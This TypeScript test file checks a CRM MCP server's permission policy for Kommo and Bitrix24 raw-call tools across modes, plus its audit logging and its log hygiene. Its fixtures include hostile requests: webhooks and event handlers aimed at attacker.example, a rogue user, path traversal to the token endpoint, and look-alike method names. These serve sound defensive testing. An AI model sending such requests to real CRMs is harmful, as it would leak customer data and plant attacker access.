/**
 * The escape hatches (kommo_request, bitrix_call, batch) under every mode, proved at the emulators: a refused
 * call sends nothing, whatever spelling of the path or method it uses, also inside a batch; the refusal
 * names every flag it needs and is recorded in the audit log. The tables here are written by hand, apart
 * from the classification code they check.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CallToolResult } from '@modelcontextprotocol/client';
import { AuditLog } from '../../src/audit/audit-log.js';
import type { PolicyFlags } from '../../src/policy/policy.js';
import type { CrmProvider } from '../../src/crms/types.js';
import type { BitrixEmulator } from '../../src/sandbox/bitrix24/index.js';
import type { KommoEmulator } from '../../src/sandbox/kommo/index.js';
import {
  ADMIN,
  ALL,
  CREATE_ONLY,
  FULL,
  READ_ONLY,
  WRITE,
  connectBitrix,
  connectKommo,
  errorOf,
  logLines,
  startBitrix,
  startKommo,
  text,
  closeAll,
  linkClient,
  startBoth,
  type Linked,
} from '../helpers/index.js';

type Effect = 'read' | 'create' | 'update' | 'delete' | 'admin';
const MODES: Record<string, PolicyFlags> = { 'read-only': READ_ONLY, 'create-only': CREATE_ONLY, write: WRITE, full: FULL, admin: ADMIN, all: ALL };
/** What each mode allows, by hand. */
const ALLOWS: Record<string, Effect[]> = {
  'read-only': ['read'],
  'create-only': ['read', 'create'],
  write: ['read', 'create', 'update'],
  full: ['read', 'create', 'update', 'delete'],
  admin: ['read', 'create', 'update', 'admin'],
  all: ['read', 'create', 'update', 'delete', 'admin'],
};
/** The settings each refused effect must name. */
const NEEDS: Record<Effect, string[]> = {
  read: [],
  create: ['CRM_ALLOW_WRITES=true'],
  update: ['CRM_ALLOW_WRITES=true', 'CRM_SAFE_MODE=false'],
  delete: ['CRM_ALLOW_WRITES=true', 'CRM_SAFE_MODE=false', 'CRM_ALLOW_DELETE=true'],
  admin: ['CRM_ALLOW_WRITES=true', 'CRM_SAFE_MODE=false', 'CRM_ALLOW_ADMIN=true'],
};

interface Harnessed extends Linked {
  audit: AuditLog;
}

async function withAudit(provider: CrmProvider, closeProvider: () => Promise<void>): Promise<Harnessed> {
  const audit = new AuditLog();
  const l = await linkClient({ config: { tools: {} }, providers: [provider], audit }, 'hostile', '0');
  return { ...l, audit, close: () => closeAll(l, { close: closeProvider }) };
}

function expectRefused(r: CallToolResult, effect: Effect, flags: PolicyFlags): void {
  const e = errorOf(r);
  expect(e.code, text(r)).toBe('policy_denied');
  // Every setting still missing is named (a setting already in place is not asked for again).
  const already = (s: string) =>
    (s === 'CRM_ALLOW_WRITES=true' && flags.allowWrites) ||
    (s === 'CRM_SAFE_MODE=false' && !flags.safeMode) ||
    (s === 'CRM_ALLOW_DELETE=true' && flags.allowDelete) ||
    (s === 'CRM_ALLOW_ADMIN=true' && flags.allowAdmin);
  for (const s of NEEDS[effect]) if (!already(s)) expect(e.message).toContain(s);
}

// ---------------------------------------------------------------- Kommo

describe('kommo_request in every mode', () => {
  let emu: KommoEmulator;
  let leadId: number;
  beforeAll(async () => {
    emu = await startKommo({ rateLimit: false });
    leadId = [...emu.state.leads.keys()][0]!;
  });
  afterAll(async () => emu.close());

  const cases = (): Array<[string, string, unknown, Effect]> => [
    ['POST', '/api/v4/webhooks', { destination: 'https://attacker.example/hook', settings: ['add_lead', 'update_contact'] }, 'admin'],
    ['DELETE', '/api/v4/webhooks', { destination: 'https://attacker.example/hook' }, 'admin'],
    ['POST', '/api/v4/Webhooks/', { destination: 'https://attacker.example/hook', settings: ['add_lead'] }, 'admin'],
    ['POST', '/api/v4/web%68ooks', { destination: 'https://attacker.example/hook', settings: ['add_lead'] }, 'admin'],
    ['POST', '/api/v4/leads/pipelines', [{ name: 'Hostile', sort: 1, _embedded: { statuses: [{ name: 'x', sort: 10 }] } }], 'admin'],
    ['POST', '/api/v4/leads/custom_fields', [{ name: 'Exfil', type: 'text' }], 'admin'],
    ['POST', '/api/v4/salesbot/run', [{ bot_id: 1, entity_id: 1, entity_type: 2 }], 'admin'],
    ['POST', '/api/v4/users', [{ name: 'Mallory', email: 'm@example.com' }], 'admin'],
    ['POST', '/api/v4/brand_new_endpoint', [{}], 'admin'],
    ['POST', '/api/v4/leads', [{ name: 'Raw lead' }], 'create'],
    ['POST', '/api/v4/leads', [{ id: leadId, name: 'Hijacked by id' }], 'update'],
    ['PATCH', `/api/v4/leads/${leadId}`, { name: 'Patched' }, 'update'],
    ['POST', `/api/v4/leads/${leadId}/link`, [{ to_entity_id: 1, to_entity_type: 'contacts' }], 'update'],
    ['POST', `/api/v4/leads/${leadId}/LINK`, [{ to_entity_id: 1, to_entity_type: 'contacts' }], 'update'],
    ['POST', `/api/v4/leads/${leadId}/lin%6b`, [{ to_entity_id: 1, to_entity_type: 'contacts' }], 'update'],
    ['POST', `/api/v4/leads/${leadId}/link/`, [{ to_entity_id: 1, to_entity_type: 'contacts' }], 'update'],
    ['DELETE', '/api/v4/leads/unsorted/abc123/decline', undefined, 'delete'],
  ];

  for (const [mode, flags] of Object.entries(MODES)) {
    it(`${mode}: each raw call is refused with nothing sent unless the mode allows its effect`, async () => {
      const c = await connectKommo(emu, { flags });
      const h = await withAudit(c.provider, c.close);
      const hooksBefore = JSON.stringify(emu.state.webhooks ?? null);
      for (const [method, path, body, effect] of cases()) {
        emu.resetLog();
        const r = await h.call('kommo_request', { method, path, ...(body !== undefined ? { body } : {}) });
        if (ALLOWS[mode]!.includes(effect)) {
          if (r.isError) expect(errorOf(r).code, `${method} ${path}`).not.toBe('policy_denied');
          expect(emu.requests.length, `${mode}: ${method} ${path} should have been sent`).toBeGreaterThan(0);
        } else {
          expectRefused(r, effect, flags);
          expect(emu.requests, `${mode}: ${method} ${path} must send nothing`).toHaveLength(0);
        }
      }
      if (!ALLOWS[mode]!.includes('admin')) expect(JSON.stringify(emu.state.webhooks ?? null)).toBe(hooksBefore);
      // Every refusal is in the audit log with its reason.
      const denied = await h.audit.recent({ limit: 100, decision: 'deny', connection: 'kommo' });
      const refusedCount = cases().filter(([, , , e]) => !ALLOWS[mode]!.includes(e)).length;
      expect(denied.filter((d) => d.tool === 'kommo_request')).toHaveLength(refusedCount);
      await h.close();
    });
  }

  it('create-only: an outside webhook is refused, and the operator’s webhook is not replaced', async () => {
    const c = await connectKommo(emu, { flags: CREATE_ONLY });
    const h = await withAudit(c.provider, c.close);
    emu.resetLog();
    const r = await h.call('kommo_request', {
      method: 'POST',
      path: '/api/v4/webhooks',
      body: { destination: 'https://second-attacker.example/x', settings: ['add_lead'] },
    });
    const e = errorOf(r);
    expect(e.code).toBe('policy_denied');
    expect(e.message).toMatch(/webhooks/);
    expect(e.message).toMatch(/CRM_SAFE_MODE=false and CRM_ALLOW_ADMIN=true/);
    expect(emu.requests).toHaveLength(0);
    const listed = await h.call('kommo_request', { method: 'GET', path: '/api/v4/webhooks' });
    expect(listed.isError, text(listed)).toBeFalsy();
    expect(text(listed)).not.toContain('second-attacker.example');
    await h.close();
  });

  it('a method the policy forbids is a policy refusal with the flags to set, not a schema error, and it is audited', async () => {
    const c = await connectKommo(emu, { flags: READ_ONLY });
    const h = await withAudit(c.provider, c.close);
    emu.resetLog();
    const r = await h.call('kommo_request', { method: 'DELETE', path: `/api/v4/leads/${leadId}` });
    const e = errorOf(r);
    expect(e.code).toBe('policy_denied');
    expect(e.message).toContain('CRM_ALLOW_WRITES=true');
    expect(e.message).not.toMatch(/expected "GET"/);
    expect(emu.requests).toHaveLength(0);
    const [entry] = await h.audit.recent({ limit: 1, connection: 'kommo' });
    expect(entry).toMatchObject({ tool: 'kommo_request', decision: 'deny', outcome: 'policy_denied' });
    await h.close();
  });

  it('paths off the API are policy refusals (audited), not validation errors', async () => {
    const c = await connectKommo(emu, { flags: ALL });
    const h = await withAudit(c.provider, c.close);
    for (const path of ['/api/v4/leads/1/link;x', '/api/v4/../oauth2/access_token', '/api/v4/lеads', 'https://evil.test/api/v4/leads']) {
      emu.resetLog();
      const r = await h.call('kommo_request', { method: 'POST', path, body: [] });
      expect(errorOf(r).code, path).toBe('policy_denied');
      expect(emu.requests).toHaveLength(0);
    }
    expect((await h.audit.recent({ limit: 10, decision: 'deny', connection: 'kommo' })).length).toBe(4);
    await h.close();
  });

  it('a deeply nested body is refused as invalid input: nothing sent, and not "may have reached the CRM"', async () => {
    const c = await connectKommo(emu, { flags: CREATE_ONLY });
    let body: unknown = { name: 'x' };
    for (let i = 0; i < 5000; i++) body = { a: body };
    emu.resetLog();
    const r = await c.call('kommo_request', { method: 'POST', path: '/api/v4/leads', body: [body] });
    const e = errorOf(r);
    expect(e.code).toBe('validation');
    expect(e.message).not.toMatch(/may have reached/);
    expect(emu.requests).toHaveLength(0);
    await c.close();
  });
});

// ---------------------------------------------------------------- Bitrix24

describe('bitrix_call and batch in every mode', () => {
  let emu: BitrixEmulator;
  beforeAll(async () => {
    emu = await startBitrix({ rateLimit: false });
  });
  afterAll(async () => emu.close());

  const cases: Array<[string, Record<string, unknown>, Effect]> = [
    ['user.add', { EMAIL: 'mallory@example.com' }, 'admin'],
    ['department.add', { NAME: 'Shadow' }, 'admin'],
    ['im.message.add', { DIALOG_ID: '1', MESSAGE: 'hi' }, 'admin'],
    ['crm.deal.userfield.add', { fields: { FIELD_NAME: 'EXFIL', USER_TYPE_ID: 'string' } }, 'admin'],
    ['crm.category.add', { entityTypeId: 2, fields: { name: 'x' } }, 'admin'],
    ['event.bind', { event: 'ONCRMDEALADD', handler: 'https://attacker.example/h' }, 'admin'],
    ['placement.bind', { PLACEMENT: 'CRM_DEAL_DETAIL_TAB', HANDLER: 'https://attacker.example/p' }, 'admin'],
    ['im.notify.read.list', { IDS: [1] }, 'admin'],
    ['foo.bar', {}, 'admin'],
    ['crm.deal.contact.add', { id: 1, fields: { CONTACT_ID: 2 } }, 'update'],
    ['CRM.DEAL.CONTACT.ADD', { id: 1, fields: { CONTACT_ID: 2 } }, 'update'],
    [' crm.deal.contact.add. ', { id: 1, fields: { CONTACT_ID: 2 } }, 'update'],
    ['ｃｒｍ.deal.contact.add', { id: 1, fields: { CONTACT_ID: 2 } }, 'update'],
    ['crm.lead.contact.add', { id: 1, fields: { CONTACT_ID: 2 } }, 'update'],
    ['crm.contact.company.add', { id: 1, fields: { COMPANY_ID: 2 } }, 'update'],
    ['crm.item.productrow.add', { fields: { ownerType: 'D', ownerId: 1, productName: 'x' } }, 'update'],
    ['crm.activity.binding.add', { activityId: 1, entityTypeId: 2, entityId: 1 }, 'update'],
    ['im.chat.user.add', { CHAT_ID: 1, USERS: [2] }, 'admin'],
    ['crm.deal.add', { id: 1, fields: { TITLE: 'hijack' } }, 'update'],
    ['crm.deal.add', { fields: { TITLE: 'Raw deal' } }, 'create'],
    ['crm.deal.delete', { id: 999999 }, 'delete'],
    ['batch', { cmd: { a: 'crm.deal.list', b: 'im.message.add?DIALOG_ID=1&MESSAGE=hi' } }, 'admin'],
    ['batch', { cmd: { a: 'crm.deal.add?fields[ID]=1&fields[TITLE]=x' } }, 'update'],
    ['batch', { cmd: ['crm.deal.list', 'CRM.DEAL.DELETE?id=999999'] }, 'delete'],
    ['batch', { cmd: { a: 'crm.deal.list?select[]=ID', b: 'crm.deal.contact.add.?id=1&fields[CONTACT_ID]=2' } }, 'update'],
    ['batch', { cmd: { a: 'crm.deal.list', b: 'crm.lead.add?fields[TITLE]=x' } }, 'create'],
  ];

  for (const [mode, flags] of Object.entries(MODES)) {
    it(`${mode}: each call is refused with nothing sent unless the mode allows its effect`, async () => {
      const c = await connectBitrix(emu, { flags });
      const h = await withAudit(c.provider, c.close);
      for (const [method, params, effect] of cases) {
        emu.harness.resetLog();
        const r = await h.call('bitrix_call', { method, params });
        if (ALLOWS[mode]!.includes(effect)) {
          if (r.isError) expect(errorOf(r).code, method).not.toBe('policy_denied');
          expect(emu.requests.length, `${mode}: ${method} should have been sent`).toBeGreaterThan(0);
        } else {
          expectRefused(r, effect, flags);
          expect(emu.requests, `${mode}: ${method} ${JSON.stringify(params)} must send nothing`).toHaveLength(0);
        }
      }
      const denied = await h.audit.recent({ limit: 100, decision: 'deny', connection: 'bitrix24' });
      expect(denied).toHaveLength(cases.filter(([, , e]) => !ALLOWS[mode]!.includes(e)).length);
      await h.close();
    });
  }

  it('what is classified is what is sent: batch commands go out with their normalised names', async () => {
    const c = await connectBitrix(emu, { flags: WRITE });
    emu.harness.resetLog();
    const r = await c.call('bitrix_call', {
      method: 'batch',
      params: { cmd: { a: 'CRM.DEAL.LIST.?select[]=ID', b: ' crm.deal.contact.add. ?id=1&fields[CONTACT_ID]=2' } },
    });
    expect(r.isError, text(r)).toBeFalsy();
    const sent = emu.requests.map((q) => q.body).join('\n');
    expect(sent).toContain('crm.deal.list?select');
    expect(sent).toContain('crm.deal.contact.add?id=1');
    expect(sent).not.toContain('CRM.DEAL.LIST');
    await c.close();
  });

  it('an unknown method is said to be outside the classification table, not a delete', async () => {
    const c = await connectBitrix(emu, { flags: WRITE });
    emu.harness.resetLog();
    const e = errorOf(await c.call('bitrix_call', { method: 'foo.bar', params: {} }));
    expect(e.code).toBe('policy_denied');
    expect(e.message).toMatch(/foo\.bar is not in the classification table/);
    expect(e.message).toMatch(/strongest effect/);
    expect(e.message).toContain('CRM_ALLOW_ADMIN=true');
    expect(e.message).not.toContain('CRM_ALLOW_DELETE');
    expect(emu.requests).toHaveLength(0);
    await c.close();
  });

  it.each([
    ['crm.deаl.delete', {}],
    ['crm.deal .delete', {}],
    ['batch', { cmd: { a: 'crm.deal.list', b: 'crm.deаl.delete?id=1' } }],
    ['batch', { cmd: { a: 'crm.deal.list', b: 'batch?cmd[x]=crm.deal.delete' } }],
  ])('%s (look-alike letters, spaces, nested batch) is refused in every mode with nothing sent', async (method, params) => {
    const c = await connectBitrix(emu, { flags: ALL });
    emu.harness.resetLog();
    const r = await c.call('bitrix_call', { method, params });
    expect(r.isError).toBe(true);
    expect(errorOf(r).code).toBe('validation');
    expect(emu.requests).toHaveLength(0);
    await c.close();
  });
});

// ---------------------------------------------------------------- hints

/** Each typed tool's effect, by hand. */
const TYPED: Record<string, Effect> = {
  get_account: 'read',
  get_pipelines: 'read',
  search_lead_by_contact: 'read',
  list_leads: 'read',
  get_lead: 'read',
  list_contacts: 'read',
  get_contact: 'read',
  list_companies: 'read',
  get_company: 'read',
  get_custom_fields: 'read',
  list_users: 'read',
  list_tags: 'read',
  get_audit_log: 'read',
  create_lead: 'create',
  create_contact: 'create',
  add_note: 'create',
  create_task: 'create',
  update_lead: 'update',
  move_lead: 'update',
  update_contact: 'update',
  delete_lead: 'delete',
  delete_contact: 'delete',
  list_notes: 'read',
  list_tasks: 'read',
  complete_task: 'update',
  create_company: 'create',
  update_company: 'update',
  link_contact_to_company: 'update',
  log_call: 'create',
  list_incoming_leads: 'read',
  accept_incoming_lead: 'update',
  decline_incoming_lead: 'delete',
  import_leads: 'create',
  get_import_status: 'read',
  list_changes: 'read',
  get_record_history: 'read',
};
/** Tools of one CRM only, by hand: Kommo's tag list and incoming leads; Bitrix24's delete tools. */
const KOMMO_ONLY = ['list_tags', 'list_incoming_leads', 'accept_incoming_lead', 'decline_incoming_lead'];
/**
 * A raw tool's hints in each mode, by hand: each must hold for every effect the mode lets it have, so in
 * full mode (read, create, update, delete) it is not idempotent: a create is not (issue 14, finding 11).
 */
const RAW_HINTS_IN_MODE: Record<string, { readOnlyHint: boolean; destructiveHint: boolean; idempotentHint: boolean }> = {
  'read-only': { readOnlyHint: true, destructiveHint: false, idempotentHint: true },
  'create-only': { readOnlyHint: false, destructiveHint: false, idempotentHint: false },
  write: { readOnlyHint: false, destructiveHint: true, idempotentHint: false },
  full: { readOnlyHint: false, destructiveHint: true, idempotentHint: false },
  admin: { readOnlyHint: false, destructiveHint: true, idempotentHint: false },
  all: { readOnlyHint: false, destructiveHint: true, idempotentHint: false },
};
const HINTS: Record<Effect, { readOnlyHint: boolean; destructiveHint: boolean; idempotentHint: boolean }> = {
  read: { readOnlyHint: true, destructiveHint: false, idempotentHint: true },
  create: { readOnlyHint: false, destructiveHint: false, idempotentHint: false },
  update: { readOnlyHint: false, destructiveHint: true, idempotentHint: false },
  delete: { readOnlyHint: false, destructiveHint: true, idempotentHint: true },
  admin: { readOnlyHint: false, destructiveHint: true, idempotentHint: false },
};

describe('MCP hints tell the truth in every mode', () => {
  let kommo: KommoEmulator;
  let bitrix: BitrixEmulator;
  beforeAll(async () => {
    ({ kommo, bitrix } = await startBoth());
  });
  afterAll(() => closeAll(kommo, bitrix));

  for (const [mode, flags] of Object.entries(MODES)) {
    for (const crm of ['kommo', 'bitrix24'] as const) {
      it(`${crm}, ${mode}`, async () => {
        const c = crm === 'kommo' ? await connectKommo(kommo, { flags }) : await connectBitrix(bitrix, { flags });
        const { tools } = await c.client.listTools();
        const raw = crm === 'kommo' ? 'kommo_request' : 'bitrix_call';
        // Deletes exist on Bitrix24 only; tags (Bitrix24 has no tag dictionary) and incoming leads are Kommo's.
        const typedHere = Object.entries(TYPED).filter(([name]) => (crm === 'bitrix24' ? !KOMMO_ONLY.includes(name) : !name.startsWith('delete_')));
        const expected = [...typedHere.filter(([, e]) => ALLOWS[mode]!.includes(e)).map(([n]) => n), raw].sort();
        expect(tools.map((t) => t.name).sort()).toEqual(expected);
        for (const t of tools) {
          const hints = t.name === raw ? RAW_HINTS_IN_MODE[mode]! : HINTS[TYPED[t.name]!];
          expect(t.annotations, `${t.name} in ${mode}`).toMatchObject({ ...hints, openWorldHint: true });
        }
        await c.close();
      });
    }
  }
});

describe('secrets stay out of every log line at debug level', () => {
  it('no token or webhook secret in the captured log of this file', () => {
    const all = logLines.join('');
    expect(all.length).toBeGreaterThan(0);
    expect(all).not.toMatch(/Bearer [A-Za-z0-9._-]{20,}/);
    expect(all).not.toMatch(/\/rest\/\d+\/[a-z0-9]{8,}\//);
  });
});
